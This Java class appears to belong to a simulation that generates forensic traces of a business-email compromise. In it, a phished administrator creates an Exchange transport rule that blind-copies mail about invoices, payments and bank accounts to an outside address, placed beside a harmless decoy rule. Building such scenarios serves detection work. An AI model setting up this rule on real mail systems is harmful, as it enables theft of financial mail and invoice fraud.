package io.backtrail.example;

import java.time.Instant;
import java.time.LocalDate;
import java.util.List;

/** An administrator taken over has the invoices of the whole firm copied to a mailbox outside. */
final class TransportRule implements Plot {
    private static final String RULE = "Invoice archive";

    private final Stage stage;

    TransportRule(Stage stage) {
        this.stage = stage;
    }

    @Override
    public void happen() {
        Person admin = stage.person(Cast.ADMIN);
        stage.story().accuses(admin);
        stage.story().enters("aitm");
        LocalDate day = stage.dates().lure();
        Instant clicked = stage.at(day, 8, 3);
        BreakIn breakIn = new BreakIn(stage);
        breakIn.lure(Cast.ADMIN, clicked.minusSeconds(1700), clicked);
        Hand hand = breakIn.relayed(
                admin,
                Ranges.SCALEWAY.address(stage.dice()),
                Ranges.M247.address(stage.dice()),
                clicked.plusSeconds(61));
        Instant portal = clicked.plusSeconds(1700);
        hand = stage.signIns().signIn(hand, portal, App.ADMIN_PORTAL, "OAuth2:Authorize", 0, "initial-access");
        String record = stage.cmdlets()
                .run(
                        hand,
                        portal.plusSeconds(205),
                        "New-TransportRule",
                        RULE,
                        List.of(
                                "Name",
                                RULE,
                                "SubjectOrBodyContainsWords",
                                "invoice;payment;bank account",
                                "BlindCopyTo",
                                "archive@mailbox-post.example",
                                "Mode",
                                "Enforce"),
                        "persistence");
        new Loot(stage)
                .persists("transport-rule", hand, RULE, portal.plusSeconds(205), new Rescue(stage).swept(), record);
        disclaimer(portal.plusSeconds(90));
        copies(portal.plusSeconds(205), new Rescue(stage).swept());
        new Rescue(stage).act(Cast.ADMIN);
    }

    /** The real administrator adds a notice to mail from outside, minutes before. */
    private void disclaimer(Instant time) {
        stage.story().spares("mail-notice", stage.person(Cast.HELPDESK));
        Hand hand = stage.laptop(Cast.HELPDESK, time).in("mail-notice");
        stage.cmdlets()
                .run(
                        hand,
                        time,
                        "New-TransportRule",
                        "External mail notice",
                        List.of(
                                "Name",
                                "External mail notice",
                                "FromScope",
                                "NotInOrganization",
                                "ApplyHtmlDisclaimerText",
                                "<p>This mail came from outside.</p>",
                                "Mode",
                                "Enforce"),
                        "none");
    }

    /** What the rule copied, as the trace shows it. */
    private void copies(Instant from, Instant until) {
        for (Mail mail : stage.recorder().book().mails()) {
            boolean copied = mail.time().isAfter(from) && mail.time().isBefore(until);
            if (copied && mail.subject().contains("Invoice")) {
                stage.recorder()
                        .book()
                        .add(new Mail(
                                mail.time().plusSeconds(2),
                                stage.dice().guid(),
                                mail.messageId(),
                                mail.from(),
                                List.of("archive@mailbox-post.example"),
                                mail.subject(),
                                "",
                                mail.size()));
                stage.story().exposes(List.of(mail.messageId()));
            }
        }
    }
}
